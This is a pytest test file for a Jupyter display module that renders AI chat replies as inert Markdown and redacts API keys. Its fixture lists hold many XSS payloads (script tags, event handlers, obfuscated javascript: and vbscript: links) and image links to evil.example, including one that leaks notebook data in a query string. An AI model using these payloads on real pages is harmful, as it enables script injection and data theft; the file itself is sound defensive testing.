"""Display bundles: inert Markdown, throttled live output, grids, media, tables."""

from __future__ import annotations

import contextvars
import html
import itertools
import re
import threading
from collections.abc import Callable
from typing import Any

import pytest
from IPython.core.displaypub import CapturingDisplayPublisher, DisplayPublisher

from tokenhot_jupyter._notebook import _display as D
from tokenhot_jupyter._types import Image, Usage

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<iframe src='https://evil'></iframe>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "`code`<script>alert(1)</script>`",
    "- item\n  ```\n  x\n```\n<script>alert(1)</script>",
    "- item\n  ```\n  x\n<script>alert(1)</script>\n  ```",
    "  ```\n  code\n     ```\n  <script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>",
    "```\ncode\n```\n<script>alert(1)</script>",
    "`a\nb` <script>alert(1)</script> `c`",
    "# `title\n<script>alert(1)</script>`",
    "<!-- comment --><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<<script>script>alert(1)<</script>/script>",
]


def _rendered(markdown: str) -> str:
    mistune = pytest.importorskip("mistune")
    return str(
        mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "url"])(markdown)
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_live_html_survives(attack: str) -> None:
    html = _rendered(D.inert_markdown(attack)).lower()
    tags = re.findall(r"<\s*([a-z][a-z0-9]*)", html)
    assert set(tags) <= {
        "p",
        "code",
        "pre",
        "ul",
        "li",
        "blockquote",
        "h1",
        "a",
        "img",
        "em",
        "strong",
    }
    assert "javascript:" not in html and "data:text/html" not in html


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "```python\nif a < b and c & d:\n    pass\n```",
            "```python\nif a < b and c & d:\n    pass\n```",
        ),
        ("~~~\n<tag>\n~~~", "~~~\n<tag>\n~~~"),
        ("Use `x < y` here", "Use <code>x &lt; y</code> here"),
        ("Plain `code` stays", "Plain `code` stays"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("**bold** and $\\frac{a}{b}$", "**bold** and $\\frac{a}{b}$"),
        # JupyterLab's maths finder takes \\( and \\[ (Markdown turns \( into a plain "(")
        ("\\[ E = mc^2 \\] and \\( a_{[i]} \\)", "\\\\[ E = mc^2 \\\\] and \\\\( a_{[i]} \\\\)"),
        ("Read [the docs](https://example.com).", "Read [the docs](https://example.com)."),
        ("```\nunclosed <b>", "```\nunclosed <b>\n```"),
        ("```js title='x'\ncode\n```", "```js\ncode\n```"),
    ],
)
def test_code_and_math_stay_readable(source: str, expected: str) -> None:
    assert D.inert_markdown(source) == expected


def test_code_in_fences_renders_verbatim() -> None:
    html = _rendered(D.inert_markdown("```\n<script>x</script>\n```"))
    assert "&lt;script&gt;" in html and "<script>" not in html


def test_inline_code_with_markup_renders_as_text() -> None:
    html = _rendered(D.inert_markdown("see `Vec<*T*>`"))
    assert "<code>Vec&lt;*T*&gt;</code>" in html.replace("&#42;", "*") or "Vec&lt;" in html
    assert "<em>" not in html


def test_chat_bundle_footer_and_plain() -> None:
    bundle = D.chat_bundle("Hi <b>", "gpt-5 · 1.00 s")
    assert bundle["text/plain"] == "Hi <b>\n\n[gpt-5 · 1.00 s]"
    assert bundle["text/markdown"].endswith("<sub>gpt-5 · 1.00 s</sub>")
    assert "<b>" not in bundle["text/markdown"]


def test_footer_closes_an_open_fence() -> None:
    markdown = D.chat_bundle("```\ncode", "footer")["text/markdown"]
    assert markdown.index("\n```") < markdown.index("<sub>")


def test_stats_line() -> None:
    stats = D.Stats("gpt-5", latency=1.234, usage=Usage(10, 20, 30), cost=0.00123, turns_sent=2)
    assert (
        stats.line()
        == "gpt-5 · 2 earlier turns sent · 1.23 s · 10 in / 20 out tokens · ≈$0.0012 est."
    )
    assert D.Stats("m", turns_sent=1).line() == "m · 1 earlier turn sent"


@pytest.mark.parametrize(
    ("usd", "text"),
    [(None, ""), (0, "≈$0 est."), (1.5, "≈$1.50 est."), (0.00003, "≈$0.000030 est.")],
)
def test_money(usd: float | None, text: str) -> None:
    assert D.money(usd) == text


def test_seconds() -> None:
    assert D.seconds(2.5) == "2.50 s" and D.seconds(125) == "2 min 05 s" and D.seconds(None) == ""


def test_provenance_redacts_and_drops_none() -> None:
    from tokenhot_jupyter._redact import register_secret

    register_secret("sk-provenancesecret99")
    meta = D.provenance(
        model="m", note="key sk-provenancesecret99", usage=Usage(1, 2, 3), task_id=None
    )
    inner = meta["tokenhot"]
    assert "sk-provenancesecret99" not in str(meta) and "task_id" not in inner
    assert inner["usage"] == {
        "input_tokens": 1,
        "output_tokens": 2,
        "total_tokens": 3,
        "reasoning_tokens": 0,
    }
    assert inner["time"].endswith("+00:00")


def test_grid_escapes_and_reports_errors() -> None:
    ok = D.Column(
        "a<b",
        text="<script>x</script>",
        stats=D.Stats("a<b", latency=1.0, usage=Usage(1, 2, 3), cost=0.01),
    )
    bad = D.Column("m2", error="RateLimitError: slow down")
    running = D.Column("m3", text="partial")
    bundle = D.grid_bundle([ok, bad, running])
    html = bundle["text/html"]
    assert "<script>" not in html and "&lt;script&gt;" in html and "a&lt;b" in html
    assert "RateLimitError: slow down" in html and "running…" in html
    assert "── m2 · failed ──" in bundle["text/plain"]
    assert [c.status for c in (ok, bad, running)] == ["done", "error", "running"]


def test_grid_images_and_plain_paths() -> None:
    column = D.Column(
        "img", images=[(Image(b"\x89PNG", "image/png"), "out/a.png")], stats=D.Stats("img")
    )
    bundle = D.grid_bundle([column])
    assert "data:image/png;base64," in bundle["text/html"]
    assert "[image saved to out/a.png]" in bundle["text/plain"]


def test_image_bundle() -> None:
    data, meta = D.image_bundle(Image(b"\xff\xd8\xffdata", "image/jpeg"), "o/x.jpg", "caption")
    assert set(data) == {"image/jpeg", "text/plain"} and meta["image/jpeg"]["path"] == "o/x.jpg"
    assert data["text/plain"].startswith("caption\n[image image/jpeg")


def test_tables_and_notes_show_dollars_as_text() -> None:
    from jupyter_maths import mathjax, typeset

    prices = "$1.25 / $10 per 1M tokens in/out"
    table = D.table_bundle(("Model", "Price"), [["gpt-5", prices]], "models at $ prices")
    seen = mathjax(table["text/html"])
    assert seen.maths == [] and prices in seen.text
    note = D.note_bundle("Balance $0.50; this needs $1.20 (\\(x\\) stays text)")
    shown = typeset(note["text/markdown"], _render_markdown_it)
    assert shown.maths == [] and "Balance $0.50; this needs $1.20 (\\(x\\)" in shown.text


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
@pytest.mark.parametrize("size", [(1024, 1536), (300, 200), (1, 1)])
def test_pixel_size_reads_the_header(kind: str, size: tuple[int, int]) -> None:
    import io

    from PIL import Image as Pil

    buffer = io.BytesIO()
    options = {"lossless": True} if kind == "WEBP" else {}
    Pil.new("RGB", size, "red").save(buffer, kind, **options)
    assert D.pixel_size(buffer.getvalue()) == size
    if kind == "WEBP":
        lossy = io.BytesIO()
        Pil.new("RGB", size, "red").save(lossy, kind, quality=50)
        assert D.pixel_size(lossy.getvalue()) == size


def test_pixel_size_of_something_else_is_unknown() -> None:
    assert D.pixel_size(b"") is None and D.pixel_size(b"\xff\xd8\xff\xe0") is None
    assert D.pixel_size(b"<svg/>") is None


def _png(width: int, height: int) -> bytes:
    from tokenhot_jupyter.simulator.media import png

    picture: bytes = png("x", width, height)
    return picture


@pytest.mark.parametrize(
    ("size", "width"),
    [((1024, 1024), 512), ((1024, 1536), 341), ((1536, 1024), 512), ((400, 300), None)],
)
def test_a_large_picture_is_shown_at_a_sensible_size(
    size: tuple[int, int], width: int | None
) -> None:
    image = Image(_png(*size), "image/png")
    _, meta = D.image_bundle(image, "o/x.png")
    assert meta["image/png"].get("width") == width and meta["image/png"]["path"] == "o/x.png"
    html = D.grid_bundle([D.Column("m", images=[(image, "o/x.png")])])["text/html"]
    assert (f"width='{width}'" in html) == (width is not None)


def test_picture_notes_say_size_and_where_it_was_saved() -> None:
    pictures = [(Image(_png(64, 32), "image/png"), "o/a.png"), (Image(_png(64, 32)), "o/b.png")]
    assert D.picture_notes(pictures) == ["64×32", "saved to o/a.png, o/b.png"]
    assert D.picture_notes(pictures, paths=False) == ["64×32"]


def _wav(seconds: float, rate: int = 8000) -> bytes:
    from tokenhot_jupyter._media import pcm_to_wav

    return pcm_to_wav(b"\x00\x00" * int(rate * seconds), rate)


def test_audio_bundle_inline_and_linked(monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = D.audio_bundle(_wav(1.0), "o/a.wav", "o/a.wav", "cap")
    assert "data:audio/wav;base64," in bundle["text/html"] and "(1.0 s)" in bundle["text/plain"]
    monkeypatch.setattr(D, "AUDIO_EMBED_LIMIT", 10)
    big = D.audio_bundle(_wav(1.0), "o/a.wav", "o/a.wav")
    assert "src='o/a.wav'" in big["text/html"] and "base64" not in big["text/html"]


def test_table_bundle() -> None:
    bundle = D.table_bundle(("A", "B"), [["<x>", "1"], ["yy", "22"]], "T")
    assert "&lt;x&gt;" in bundle["text/html"] and "<caption" in bundle["text/html"]
    assert bundle["text/plain"].splitlines() == ["T", "A    B", "---  --", "<x>  1", "yy   22"]


class FakeScreen(D.Screen):
    def __init__(self, rich: bool = True) -> None:
        self.sent: list[tuple[str, dict[str, Any], str | None]] = []
        self._rich = rich
        self.text = ""

    @property
    def rich(self) -> bool:
        return self._rich

    def _publish(self, data: Any, metadata: Any, display_id: str | None, update: bool) -> None:
        self.sent.append(("update" if update else "show", data, display_id))

    def write(self, text: str) -> None:
        self.text += text


CELL: contextvars.ContextVar[str] = contextvars.ContextVar("cell")  # as ipykernel's parent


class CellScreen(FakeScreen):
    """Notes the cell (the context) each message is sent in."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: list[str | None] = []

    def _publish(self, data: Any, metadata: Any, display_id: str | None, update: bool) -> None:
        self.cells.append(CELL.get(None))
        super()._publish(data, metadata, display_id, update)


def in_cell(name: str, action: Callable[[], Any]) -> Any:
    def run() -> Any:
        CELL.set(name)
        return action()

    return contextvars.Context().run(run)


def test_a_placed_output_updates_in_the_cell_that_showed_it() -> None:
    screen = CellScreen()
    shown = in_cell("cell-1", lambda: screen.place({"text/plain": "a"}))
    in_cell("cell-2", lambda: shown.update({"text/plain": "b"}))  # a widget callback, later
    worker = threading.Thread(target=shown.update, args=({"text/plain": "c"},))
    worker.start()  # the runtime loop's thread
    worker.join()
    assert screen.cells == ["cell-1"] * 3
    assert [(kind, d) for kind, _, d in screen.sent] == [
        ("show", shown.display_id),
        ("update", shown.display_id),
        ("update", shown.display_id),
    ]


def test_a_screen_is_rich_where_its_publisher_does_more_than_print() -> None:
    class Shell:
        def __init__(self, publisher: Any) -> None:
            self.display_pub = publisher

    assert not D.Screen(Shell(DisplayPublisher())).rich  # type: ignore[no-untyped-call]
    assert D.Screen(Shell(CapturingDisplayPublisher())).rich  # type: ignore[no-untyped-call]
    assert not D.PlainScreen().rich


def test_live_throttles_by_clock() -> None:
    now = [0.0]
    screen = FakeScreen()
    live = D.Live(screen, {"text/plain": "0"}, 0.25, clock=lambda: now[0])
    sent = []
    for i in range(100):
        now[0] = i * 0.01
        sent.append(live.update({"text/plain": str(i)}))
    assert sum(sent) == 3  # at 0.25, 0.50, 0.75 s
    assert live.update({"text/plain": "end"}, final=True)
    assert {d for _, _, d in screen.sent} == {live.display_id}
    assert screen.sent[-1][1] == {"text/plain": "end"}


def test_chat_view_terminal_writes_deltas() -> None:
    screen = FakeScreen(rich=False)
    view = D.ChatView(screen, "m", 0.25)
    view.feed("Hello ")
    view.feed("world")
    view.finish("Hello world", "m · 1.00 s", {})
    assert screen.text == "Hello world\n[m · 1.00 s]\n" and screen.sent == []


def test_chat_view_rich_shows_thinking_then_text() -> None:
    screen = FakeScreen()
    view = D.ChatView(screen, "m", 0.0)
    view.feed("", reasoning="hmm")
    assert (
        "thinking" in screen.sent[-1][1]["text/plain"]
        and "3 characters" in screen.sent[-1][1]["text/plain"]
    )
    view.feed("Answer ")
    view.fail("RateLimitError")
    assert screen.sent[-1][1]["text/plain"] == "Answer \n\nstopped: RateLimitError"


def test_wav_seconds() -> None:
    assert D.wav_seconds(_wav(2.0)) == pytest.approx(2.0)
    assert D.wav_seconds(b"nope") == 0.0


@pytest.mark.parametrize(
    "attack",
    [
        "- item\n  ```\n  x\n<script>alert(1)</script>\n  ```",
        "  ```\n  code\n     ```\n  <script>alert(1)</script>",
        "- item\n  ```\n  x\n  ```\n<script>alert(1)</script>",
    ],
)
def test_indented_fences_whose_end_is_unclear_escape_the_rest(attack: str) -> None:
    # CommonMark ends a list item's fence at a less-indented line; we cannot know the item's
    # indent, so everything after such a line is escaped.
    assert "<script>" not in D.inert_markdown(attack)


# --- links: no live script scheme through any renderer ------------------------------------------

LINK_ATTACKS = [
    "[Open the report](javascript\\:alert(document.domain))",
    "[x](&#x6A;avascript:alert(2))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](JAVA&#x53;CRIPT:alert(1))",
    "[x](&#x26;#x6A;avascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\n  javascript:alert(1))",
    "[x](  javascript&colon;alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![img](javascript:alert(1))",
    "![img](java&#115;cript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n   [R]: java&#115;cript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "[x][r]\n\n> [r]: javascript&colon;alert(1)",
    "[x][r]\n\n- [r]: javascript&colon;alert(1)",
    "[x][a b]\n\n[a\nb]: javascript&colon;alert(1)",
    "[x][`a]\n\n[`a]: javascript&colon;alert(1)`",
    "\\`[x](java&#115;cript:alert(1))`",
    "foo `\n`[x](java&#115;cript:alert(1))` bar`",
    "[x](https://ok)[y](java&#115;cript:alert(1))",
    "| a |\n|---|\n| [x](java&#115;cript:alert(1)) |",
    "\\\\[x](java&#115;cript:alert(1))",
    "[x\\](javascript:alert(1))",
    "[x\\\\](java&#115;cript:alert(1))",
]
SAFE_SCHEMES = {"http", "https", "mailto"}


def _render_nbconvert(markdown: str) -> str:
    pytest.importorskip("nbconvert")
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return str(markdown2html_mistune(markdown))


def _render_markdown_it(markdown: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark").enable("table").render(markdown))


RENDERERS = {
    "mistune": _rendered,
    "nbconvert": _render_nbconvert,
    "markdown-it": _render_markdown_it,
}


def _live_schemes(rendered: str) -> list[str]:
    """Schemes of every href/src, decoded and cleaned as a browser does."""
    found = []
    for match in re.finditer(r"""(?i)\b(?:href|src)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""", rendered):
        url = html.unescape(match.group(1).strip("\"'"))
        url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(33))))
        scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
        found.append(scheme.group(1).lower() if scheme else "")
    return found


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("attack", LINK_ATTACKS)
def test_no_link_to_a_script_scheme_survives_a_renderer(attack: str, renderer: str) -> None:
    rendered = RENDERERS[renderer](D.chat_bundle(attack, "m · 1 s")["text/markdown"])
    assert set(_live_schemes(rendered)) <= SAFE_SCHEMES | {""}, rendered


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[docs](https://example.com)", "https://example.com"),
        ("[q](https://example.com/a?b=1&c=2)", "https://example.com/a?b=1&c=2"),
        ("[MDN](https://mdn.example/JavaScript)", "https://mdn.example/JavaScript"),
        ("[mail](mailto:a@example.com)", "mailto:a@example.com"),
        ("[top](#intro)", "#intro"),
        ("![pic](https://example.com/a.png)", "https://example.com/a.png"),  # a link now
        ("[docs][d]\n\n[d]: https://example.com/ref", "https://example.com/ref"),
    ],
)
def test_web_links_keep_working(source: str, href: str, renderer: str) -> None:
    rendered = RENDERERS[renderer](D.inert_markdown(source))
    urls = re.findall(r"""(?:href|src)="([^"]*)\"""", rendered)
    assert [html.unescape(u) for u in urls] == [href], rendered


IMAGES = [
    "![chart](https://evil.example/leak.png?d=notebook-data)",
    "![](https://evil.example/a.png)",
    '![x](https://evil.example/a.png "title")',
    "![a [nested] alt](https://evil.example/a.png)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: https://evil.example/a.png",
    "![r][]\n\n[r]: https://evil.example/a.png",
    "![two\nlines](https://evil.example/a.png)",
    "- ![x](https://evil.example/a.png)\n> ![y](https://evil.example/b.png)",
    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
    "[![x](https://evil.example/a.png)](https://example.com)",
    "$![x](https://evil.example/a.png)$ and $$\n![y](https://evil.example/b.png)\n$$",
    "![x](//evil.example/a.png) ![y](a.png) ![z](data:image/png;base64,iVBORw0KGgo=)",
]


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("source", IMAGES)
def test_pictures_in_a_reply_are_never_fetched(source: str, renderer: str) -> None:
    rendered = RENDERERS[renderer](D.chat_bundle(source, "m · 1 s")["text/markdown"])
    assert "<img" not in rendered, rendered
    assert "<img" not in D.markdown_html(source)  # comparison columns


@pytest.mark.parametrize("renderer", RENDERERS)
def test_a_picture_becomes_a_link_that_says_so(renderer: str) -> None:
    rendered = RENDERERS[renderer](D.inert_markdown("See ![the chart](https://x.example/c.png)"))
    assert '<a href="https://x.example/c.png">image: the chart</a>' in rendered, rendered
    empty = RENDERERS[renderer](D.inert_markdown("![](https://x.example/c.png)"))
    assert '<a href="https://x.example/c.png">image</a>' in empty, empty


@pytest.mark.parametrize("renderer", RENDERERS)
def test_code_about_pictures_reads_verbatim(renderer: str) -> None:
    rendered = RENDERERS[renderer](D.inert_markdown("Write `![alt](url)` for a picture"))
    assert "<code>![alt](url)</code>" in html.unescape(rendered), rendered


def test_a_neutralised_link_stays_readable() -> None:
    rendered = _render_nbconvert(D.inert_markdown("[Open the report](javascript:alert(1))"))
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered)).replace("\u200b", "")
    assert "<a" not in rendered and text.strip() == "[Open the report](javascript:alert(1))"


@pytest.mark.parametrize("renderer", RENDERERS)
def test_code_about_links_reads_verbatim(renderer: str) -> None:
    rendered = RENDERERS[renderer](D.inert_markdown("Write `[text](url)` or `a[0]: javascript`"))
    assert "<a" not in rendered
    assert html.unescape(rendered).count("<code>") == 2
    assert "[text](url)" in html.unescape(rendered)
    assert "a[0]: javascript" in html.unescape(rendered)  # no zero-width space inside code


def test_script_words_are_broken_in_prose_but_not_in_web_addresses() -> None:
    markdown = D.inert_markdown(
        "JavaScript, VBScript and livescript: see https://x.example/javascript"
    )
    assert "J\u200bavaScript" in markdown and "V\u200bBScript" in markdown
    assert "l\u200bivescript" in markdown and "https://x.example/javascript" in markdown


@pytest.mark.parametrize("target", ["https://x", " HTTPS://x", "mailto:a@b", "#a", "&#104;ttp://x"])
def test_safe_targets(target: str) -> None:
    assert D.safe_target(target)


@pytest.mark.parametrize(
    "target", ["", "  ", "javascript:x", "x.html", "//evil", "h\\ttps:x", "&" * 3000 + "http://"]
)
def test_unsafe_targets(target: str) -> None:
    assert not D.safe_target(target)


# --- redaction ------------------------------------------------------------------------------------

SECRET = "sk-displaybundlesecret0123456789"


@pytest.fixture
def secret() -> str:
    from tokenhot_jupyter._redact import register_secret

    register_secret(SECRET)
    return SECRET


def test_every_text_bundle_is_redacted(secret: str) -> None:
    column = D.Column("m", text=f"a {secret}", error=f"Error {secret}")
    bundles = [
        D.chat_bundle(f"key {secret}", f"footer {secret}", pending=f"wait {secret}"),
        D.transcript_bundle(f"said {secret}", "f"),
        D.note_bundle(f"note {secret}"),
        D.banner_bundle(secret),
        D.table_bundle((secret,), [[f"cell {secret}"]], f"title {secret}"),
        D.grid_bundle([column, D.Column(secret)]),
        D.image_bundle(Image(b"\x89PNG", "image/png"), secret, f"cap {secret}")[0],
        D.audio_bundle(_wav(0.1), "a.wav", "a.wav", f"cap {secret}"),
    ]
    for bundle in bundles:
        assert secret not in repr(bundle) and "sk-***" in repr(bundle)


def test_stream_updates_are_redacted(secret: str) -> None:
    screen = FakeScreen()
    view = D.ChatView(screen, "m", 0.0)
    for piece in ("my key ", secret[:10], secret[10:], " ok"):
        view.feed(piece)
    assert len(screen.sent) > 3 and secret[:10] not in repr(screen.sent)
    view.feed(" and " + secret[:12])  # cut off while the key arrives
    view.fail("interrupted")
    assert screen.sent[-1][1]["text/plain"] == "my key sk-*** ok and \n\nstopped: interrupted"
    assert secret[:10] not in repr(screen.sent)


def test_grid_leaves_out_a_running_columns_last_word(secret: str) -> None:
    columns = [D.Column("a", text=f"key {secret[:12]}"), D.Column("b", text=f"key {secret[:9]}")]
    columns[1].stop("interrupted")
    bundle = D.grid_bundle(columns)
    assert secret[:9] not in repr(bundle) and bundle["text/plain"].count("\nkey") == 2


def test_terminal_stream_redacts_a_key_split_across_deltas(secret: str) -> None:
    screen = FakeScreen(rich=False)
    view = D.ChatView(screen, "m", 0.0)
    for piece in ("my key ", secret[:10], secret[10:], " is set\n", "done"):
        view.feed(piece)
    view.finish(f"my key {secret} is set\ndone", "m · 1 s", {})
    assert screen.text == "my key sk-*** is set\ndone\n[m · 1 s]\n"


# --- interrupted comparisons ----------------------------------------------------------------------


def test_stopped_columns_say_so_and_finished_ones_stay() -> None:
    done = D.Column("a", text="all", stats=D.Stats("a", latency=1.0))
    running = D.Column("b", text="partial answer, cut")
    failed = D.Column("c", error="RateLimitError: slow down")
    for column in (done, running, failed):
        column.stop("interrupted")
    assert [c.status for c in (done, running, failed)] == ["done", "stopped", "error"]
    bundle = D.grid_bundle([done, running, failed])
    assert "running…" not in bundle["text/html"] + bundle["text/plain"]
    assert "── b · stopped: interrupted ──\npartial answer," in bundle["text/plain"]
    assert running.provenance()["stopped"] == "interrupted" and "stopped" not in done.provenance()


def test_comparison_columns_render_safe_markdown() -> None:
    from tokenhot_jupyter._notebook._display import markdown_html

    out = markdown_html("Hi **there** and `x<1`\n\n- one\n- two\n\n```\nif a < b:\n```")
    assert "<b>there</b>" in out and "<code>x&lt;1</code>" in out
    assert "<li>one</li><li>two</li>" in out and "if a &lt; b:" in out
    attacks = (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))", "**<svg onload=alert(1)>**", "`</code><script>`",
    )  # fmt: skip
    rendered = markdown_html("\n".join(attacks))
    assert "<script" not in rendered and "<img" not in rendered and "<svg" not in rendered
    assert "href" not in rendered and "<a " not in rendered


# --- streaming: render only what is sent, a bounded multiple of the answer ---------------------


def _clocked_view(interval: float) -> tuple[FakeScreen, D.ChatView, list[float]]:
    now = [0.0]
    screen = FakeScreen()
    return screen, D.ChatView(screen, "m", interval, clock=lambda: now[0]), now


def test_chat_view_renders_only_when_an_update_is_sent(monkeypatch: pytest.MonkeyPatch) -> None:
    screen, view, now = _clocked_view(0.25)
    renders: list[str] = []
    real = D.chat_bundle

    def counting(text: str, *args: Any, **kwargs: Any) -> D.Bundle:
        renders.append(text)
        return real(text, *args, **kwargs)

    monkeypatch.setattr(D, "chat_bundle", counting)
    view.feed("Hello ")
    for i in range(200):  # no time passes: no update is due, so nothing is rendered
        view.feed(f"word{i} ")
    assert renders == ["Hello "] and len(screen.sent) == 2
    now[0] = 0.3
    view.feed("more ")
    assert len(renders) == 2 and screen.sent[-1][1]["text/plain"].endswith("word199 more ")


def test_the_first_words_do_not_wait_out_the_placeholders_interval() -> None:
    screen, view, _ = _clocked_view(10.0)
    view.feed("", reasoning="hmm")  # reasoning alone waits for the interval, as before
    assert len(screen.sent) == 1
    view.feed("Hi ")
    assert screen.sent[-1][1]["text/plain"] == "Hi " and view.shown
    view.feed("there ")  # after the first words the interval holds again
    assert len(screen.sent) == 2


def test_the_final_output_is_the_one_shot_rendering() -> None:
    screen, view, now = _clocked_view(0.25)
    text = "# Title\n\nSome *text* with <b>tags</b> & [a link](javascript:x).\n\n```py\nx = 1\n"
    text *= 40
    for i, piece in enumerate(re.findall(r"\S+\s*|\s+", text)):
        now[0] = i * 0.01
        view.feed(piece)
    assert len(screen.sent) > 5
    view.finish(text, "m · 1.00 s", {"tokenhot": {}})
    assert screen.sent[-1] == ("update", D.chat_bundle(text, "m · 1.00 s"), view.live.display_id)  # type: ignore[union-attr]


def test_a_long_stream_sends_a_bounded_multiple_of_its_answer_and_keeps_updating() -> None:
    screen, view, now = _clocked_view(0.25)
    pieces = [f"word{i} " + ("\n\n" if i % 50 == 49 else "") for i in range(8000)]
    sent_at: list[float] = []
    for i, piece in enumerate(pieces):  # 5 ms a token: a 40 s answer of about 70 KB
        now[0] = i * 0.005
        view.feed(piece)
        if len(screen.sent) > len(sent_at) + 1:
            sent_at.append(now[0])
    view.finish("".join(pieces), "m", {})
    sizes = [D.bundle_size(data) for _, data, _ in screen.sent]
    assert sum(sizes) <= (D.STREAM_BUDGET + 1.5) * sizes[-1]  # the updates, then the final one
    gaps = [b - a for a, b in itertools.pairwise([*sent_at, now[0]])]
    assert len(sent_at) >= 10 and max(gaps) <= D.STREAM_MAX_INTERVAL + 0.01


STREAMED = [
    "# Title\n\nSome *text* with <b>tags</b> & [a link](javascript:x).\n\n```py\nx = 1\n\ny = 2\n"
    "```\n\nAfter $a$ and $$\nb\n$$ and \\(c\n\nd\\) end.\n\n![pic](http://x/y.png) done",
    "- item\n  ```\n  code\n\n<script>x</script>\n  ```\n\ntext\n\n  ```\n  more\n     ```\n\n"
    "  <b>x</b>\n\n   \t\nlast",
    "Price $5 and $10\n\n$x +\ny$ spans\n\n~~~\nfence ~~~ not closed\n\n\nstill code",
    "a\r\n\r\nb\r\n\r\n`code $x$`\r\n\r\n\\begin{align}\nx\n\n\\end{align}\n\r\n"
    "[x]: javascript:y\n",
]


@pytest.mark.parametrize("text", STREAMED)
def test_a_stream_renders_at_every_step_as_the_whole_text_does(text: str) -> None:
    render = D.StreamMarkdown()
    for end in range(len(text) + 1):  # each step reuses what the one before settled
        assert render(text[:end]) == D.inert_markdown(text[:end]), text[:end]


def test_a_rewritten_past_is_rendered_again() -> None:
    render = D.StreamMarkdown()
    render("one\n\ntwo\n\nthr")
    assert render("ONE\n\ntwo\n\nthree") == D.inert_markdown("ONE\n\ntwo\n\nthree")


def test_stream_updates_render_each_settled_paragraph_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    screen, view, now = _clocked_view(0.25)
    rendered: list[int] = []
    real = D.inert_markdown

    def counting(text: str) -> str:
        rendered.append(len(text))
        return real(text)

    monkeypatch.setattr(D, "inert_markdown", counting)
    for i in range(2000):
        now[0] = i * 0.005
        view.feed(f"word{i} " + ("\n\n" if i % 50 == 49 else ""))
    # Each settled paragraph is rendered once, the paragraph still growing at each update.
    assert len(screen.sent) > 10 and sum(rendered) < 2 * len(view.text)
